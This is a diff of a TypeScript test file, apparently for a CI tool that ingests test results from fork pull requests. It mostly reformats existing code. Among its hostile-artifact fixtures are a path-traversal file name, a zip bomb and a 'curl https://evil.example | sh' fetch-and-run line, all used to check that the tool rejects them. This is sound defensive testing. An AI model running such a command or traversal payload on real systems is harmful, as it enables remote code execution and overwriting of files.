@@ -115,7 +115,19 @@ async function baseline(): Promise<void> {
 
 function bundleZip(tests = [parsedTest('pkg.Suite::a', 'P')], run: Record<string, unknown> = {}): Buffer {
   const results = renderResultsFile(
-    { key: '500/test/aaaaaaaa', runId: '500', runAttempt: 1, job: 'test', workflow: 'Tests', sha: FORK_HEAD, ref: 'refs/pull/7/merge', onDefaultBranch: false, event: 'pull_request', time: Date.now(), ...run },
+    {
+      key: '500/test/aaaaaaaa',
+      runId: '500',
+      runAttempt: 1,
+      job: 'test',
+      workflow: 'Tests',
+      sha: FORK_HEAD,
+      ref: 'refs/pull/7/merge',
+      onDefaultBranch: false,
+      event: 'pull_request',
+      time: Date.now(),
+      ...run,
+    },
     tests,
   );
   const manifest = renderManifest({ jobKey: '', testOutcome: 'success', filesMatched: 1, filesRead: 1, problems: [], reportPatterns: ['reports/**/*.xml'] });
@@ -132,7 +144,13 @@ describe('README: pull requests from forks', () => {
     const commitsBefore = await world.dataCommits();
 
     // The pull request: `a` fails then passes on a retry, `b` (quarantined by hand) fails.
-    await world.writeReport('reports/junit.xml', junitXml([{ name: 'a', attempts: 'FP' }, { name: 'b', attempts: 'F' }]));
+    await world.writeReport(
+      'reports/junit.xml',
+      junitXml([
+        { name: 'a', attempts: 'FP' },
+        { name: 'b', attempts: 'F' },
+      ]),
+    );
     const pr = await forkJob(await quickStartInputs('failure'), 500);
     expectOutcome(pr, 'success');
     expect(pr.outputs['quarantined-failures']).toBe('1');
@@ -186,7 +204,11 @@ describe('README: pull requests from forks', () => {
     const run = await ingest(501);
     expectOutcome(run, 'success');
     const rows = (await dataJson('runs.json')).runs as Record<string, unknown[]>;
-    expect(Object.values(rows).map((r) => [String(r[0]).split('/')[0], r[1], r[3]]).sort()).toEqual([
+    expect(
+      Object.values(rows)
+        .map((r) => [String(r[0]).split('/')[0], r[1], r[3]])
+        .sort(),
+    ).toEqual([
       ['1', mainSha, 1],
       ['501', FORK_HEAD, 0],
     ]);
@@ -203,9 +225,18 @@ describe('README: pull requests from forks', () => {
 
   it('refuses hostile artifacts (path traversal, zip bomb, oversized, not a zip, a symbolic link, workflow commands in names), writes nothing from them, ingests the rest', async () => {
     await baseline();
-    const bomb = zipBytes([{ name: RESULTS_FILE, content: Buffer.alloc(64 * 1024 * 1024, 0x20), declaredSize: 1000 }, { name: MANIFEST_FILE, content: '{}' }]);
+    const bomb = zipBytes([
+      { name: RESULTS_FILE, content: Buffer.alloc(64 * 1024 * 1024, 0x20), declaredSize: 1000 },
+      { name: MANIFEST_FILE, content: '{}' },
+    ]);
     const hostile: Array<[string, Buffer, number?]> = [
-      ['flakeguard-traversal', zipBytes([{ name: '../../../../evil-traversal.json', content: '{}' }, { name: RESULTS_FILE, content: '{}' }])],
+      [
+        'flakeguard-traversal',
+        zipBytes([
+          { name: '../../../../evil-traversal.json', content: '{}' },
+          { name: RESULTS_FILE, content: '{}' },
+        ]),
+      ],
       ['flakeguard-bomb', bomb],
       ['flakeguard-huge', bundleZip(), 2 * 1024 * 1024 * 1024],
       ['flakeguard-garbage', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
@@ -229,7 +260,7 @@ describe('README: pull requests from forks', () => {
     // Names from the archive reach the log only as data: no command injected, the legacy syntax defused.
     expect(workflowCommands(run.stdout).problems).toEqual([]);
     expect(workflowCommands(run.stdout).commands.filter((c) => c.name === 'warning')).toEqual([]);
-    expect(run.stdout).toContain('has a \'..\' segment (path traversal)');
+    expect(run.stdout).toContain("has a '..' segment (path traversal)");
     // The oversized one was never downloaded; the others were, as single files, and never extracted.
     const huge = gh.state.artifacts.find((a) => a.name === 'flakeguard-huge')!;
     expect(gh.requests.some((r) => r.path.endsWith(`/artifacts/${huge.id}/zip`))).toBe(false);
@@ -290,4 +321,3 @@ async function listAll(dir: string): Promise<string[]> {
   }
   return out;
 }
-
